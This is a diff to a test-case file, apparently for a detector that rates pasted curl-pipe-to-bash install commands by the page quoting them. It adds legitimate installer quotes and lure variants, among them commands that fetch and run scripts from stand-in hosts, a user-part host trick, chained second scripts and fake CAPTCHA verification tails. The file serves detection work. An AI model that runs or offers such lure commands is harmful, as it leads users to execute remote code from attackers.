@@ -35,6 +35,12 @@ Techniques:
   the same acts from the project's own page and bare (quiet), from a stranger's page with no
   trait (a warning), the traits beside commands that hand nothing over, plain-HTTP vendor apt
   lines, the distribution's own sources, a checksum's own verification words.
+- `spelt-suffix`: a tutorial or a question about a product quoting the maker's installer from
+  the domain that spells the product's name across its country suffix (getmic.ro: micro,
+  tur.so: turso) is the page's quote of the maker's own host, like micro.<tld>. Lures that try
+  to abuse it: a page offering a fix, a page about something else, a check page, a
+  verification tail, the Run box, look-alike hosts (getmicro.example), a user part, a second
+  script beside it.
 """
 
 from __future__ import annotations
@@ -551,6 +557,107 @@ for page, text in (
     ),
 ):
     book.add("handover-lure", text, QUIET, "linux", "terminal", page)
+
+# ---- 5. a name spelt across a country suffix: a tutorial's quote of the maker's own host -----
+# A page about software that names the product a domain spells across its country suffix with
+# a download word in front (getmic.ro: micro; tur.so: turso) vouches for that domain as it
+# vouches for micro.<tld>: a question or a tutorial quoting the maker's installer. The lures try
+# to abuse that reading: the same quote from a page offering a fix, from a page about something
+# else, from a check page, with a verification tail, into the Run box, or from a host that only
+# looks like such a spelling (getmicro.example, a suffix of three letters).
+SPELT_QUOTES = (
+    (
+        "https://askubuntu.com/questions/1488122/install-micro-editor",
+        "curl https://getmic.ro | bash",
+    ),
+    (
+        "https://superuser.com/questions/77120/how-to-install-micro-text-editor-on-wsl",
+        "curl -fsSL https://getmic.ro | bash && sudo mv micro /usr/local/bin/",
+    ),
+    (
+        "https://dev.to/termnotes/micro-a-terminal-editor-for-everyone-4k2a",
+        "curl https://getmic.ro/r | sudo sh",
+    ),
+    (
+        "https://linuxhandbook.example/install-micro-editor/",
+        "cd /usr/local/bin; curl https://getmic.ro | sudo bash",
+    ),
+    (
+        "https://stackoverflow.com/questions/70011/setting-up-turso-cli-on-ubuntu",
+        "curl -sSfL https://get.tur.so/install.sh | bash",
+    ),
+    (
+        "https://dev.to/dbnotes/getting-started-with-turso-and-libsql-2b1c",
+        "curl -sSfL https://get.tur.so/install.sh | bash",
+    ),
+)
+for page, text in SPELT_QUOTES:
+    book.add("spelt-suffix", text, QUIET, "linux", "terminal", page)
+# the quote with nothing tying it: a warning, as before
+for page, text in (
+    ("https://news.ycombinator.com/item?id=41922093", SPELT_QUOTES[0][1]),
+    ("https://www.youtube.com/watch?v=Qx3mK9sT2bA", SPELT_QUOTES[4][1]),
+    ("https://askubuntu.com/questions/1488122/install-nano-editor", SPELT_QUOTES[0][1]),
+    ("https://forum.example.org/t/new-editor/77", SPELT_QUOTES[1][1]),
+):
+    book.add("spelt-suffix", text, SUSPICIOUS, "linux", "terminal", page)
+# abuses of the reading: still flagged, and blocked where a lure trait stands beside it
+for page, text, expect, target in (
+    (
+        "https://www.quillmere-bakery.example/fix-micro-editor-error/",
+        SPELT_QUOTES[0][1],
+        MALICIOUS,
+        "terminal",
+    ),
+    (
+        "https://harborview-dental.example/update-required/micro",
+        SPELT_QUOTES[2][1],
+        MALICIOUS,
+        "terminal",
+    ),
+    (
+        "https://secure-check.verify-human.example/install-micro",
+        SPELT_QUOTES[0][1],
+        MALICIOUS,
+        "terminal",
+    ),
+    ("https://recipes.example/micro-greens-salad", SPELT_QUOTES[0][1], MALICIOUS, "terminal"),
+    (
+        "https://lakeside-travel.test/turso-weekend-offers",
+        SPELT_QUOTES[4][1],
+        MALICIOUS,
+        "terminal",
+    ),
+    (
+        SPELT_QUOTES[0][0],
+        SPELT_QUOTES[0][1] + "   # I am not a robot - Verification ID: 8812",
+        MALICIOUS,
+        "terminal",
+    ),
+    (
+        SPELT_QUOTES[4][0],
+        SPELT_QUOTES[4][1] + "  # ✅ Cloudflare check passed, press Enter",
+        MALICIOUS,
+        "terminal",
+    ),
+    (SPELT_QUOTES[0][0], SPELT_QUOTES[0][1], MALICIOUS, "run_dialog"),
+    (SPELT_QUOTES[0][0], "curl https://getmicro.example | bash", SUSPICIOUS, "terminal"),
+    (SPELT_QUOTES[0][0], "curl https://getmic.example | bash", SUSPICIOUS, "terminal"),
+    (
+        SPELT_QUOTES[4][0],
+        "curl -sSfL https://get.tursso.test/install.sh | bash",
+        SUSPICIOUS,
+        "terminal",
+    ),
+    (SPELT_QUOTES[0][0], "curl https://getmic.ro@files-relay.test/i | bash", MALICIOUS, "terminal"),
+    (
+        SPELT_QUOTES[0][0],
+        "curl https://getmic.ro | bash; curl -s https://cdn.files-relay.test/x | sh",
+        SUSPICIOUS,
+        "terminal",
+    ),
+):
+    book.add("spelt-suffix", text, expect, "linux", target, page)
 
 CASES = book.cases
 
